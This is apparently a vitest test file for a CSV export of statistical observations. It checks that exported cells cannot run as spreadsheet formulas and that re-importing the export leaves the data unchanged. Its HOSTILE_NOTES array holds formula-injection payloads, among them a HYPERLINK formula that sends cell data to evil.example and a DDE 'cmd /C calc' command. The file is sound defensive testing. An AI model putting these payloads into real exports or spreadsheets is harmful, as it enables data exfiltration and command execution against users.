import type { Payload } from 'payload'

import Papa from 'papaparse'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import type { User } from '@/payload-types'

import { guessMapping } from '@/lib/import/observations/columns'
import { findObservationsForExport, observationsToRows, rowsToCsv } from '@/lib/import/observations/export'
import { csvToTable } from '@/lib/import/observations/parseTable'
import { dryRunObservationImport } from '@/lib/import/observations/server'
import { createCountry, createIndicator, createUser } from '@/tests/helpers/fixtures'
import { createTestPayload } from '@/tests/helpers/payload'

/**
 * Notes staff might type, each of which a spreadsheet would run as a formula if written as is. (A
 * note that starts with a tab is left out: the import trims every value it reads, so such a note
 * never came back unchanged, neutralised or not.)
 */
const HOSTILE_NOTES = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  "'=already quoted by hand",
]
const FORMULA_START = /^[=+\-@\t\r]/
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/

let payload: Payload
let analyst: User

beforeAll(async () => {
  payload = await createTestPayload()
  await createUser(payload, 'admin')
  analyst = await createUser(payload, 'analyst')
  const country = await createCountry(payload, { iso2: 'KZ', iso3: 'KAZ', name: 'Kazakhstan' })
  const indicator = await createIndicator(payload, { name: 'Synthetic growth', slug: 'synthetic-growth', unit: '%' })
  for (const [index, note] of HOSTILE_NOTES.entries()) {
    await payload.create({
      collection: 'observations',
      data: {
        _status: 'published',
        country: country.id,
        indicator: indicator.id,
        note,
        period: { kind: 'year', year: 2000 + index },
        qualifier: 'actual',
        source: { url: 'https://stat.example.org/synthetic' },
        // Negative growth rates must stay numbers in the spreadsheet.
        value: -3.5 - index,
      },
    })
  }
})

afterAll(async () => {
  await payload.destroy()
})

const exportCsv = async () => {
  const { reference, rows } = await findObservationsForExport({ filter: {}, payload, user: analyst })
  return { csv: rowsToCsv(observationsToRows(rows, reference)), count: rows.length }
}

describe('observation CSV export', () => {
  it('should write no cell a spreadsheet would run as a formula, and negative values as numbers', async () => {
    const { csv } = await exportCsv()
    const [header = [], ...rows] = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data
    const cells = rows.flat()
    expect(cells.filter((cell) => FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell))).toEqual([])
    expect(rows.map((row) => row[header.indexOf('value')])).toEqual(
      HOSTILE_NOTES.map((_, index) => String(-3.5 - index)),
    )
  })

  it('should re-import its own export with hostile notes and change nothing', async () => {
    const { count, csv } = await exportCsv()
    const table = csvToTable(csv)
    const { plan } = await dryRunObservationImport({
      mapping: guessMapping(table.headers),
      payload,
      table,
      user: analyst,
    })
    expect(plan.rejected).toEqual([])
    expect([plan.create.length, plan.update.length, plan.unchanged.length]).toEqual([0, 0, count])
    expect(table.rows.map((row) => row.cells[table.headers.indexOf('note')])).toEqual(HOSTILE_NOTES)
  })
})
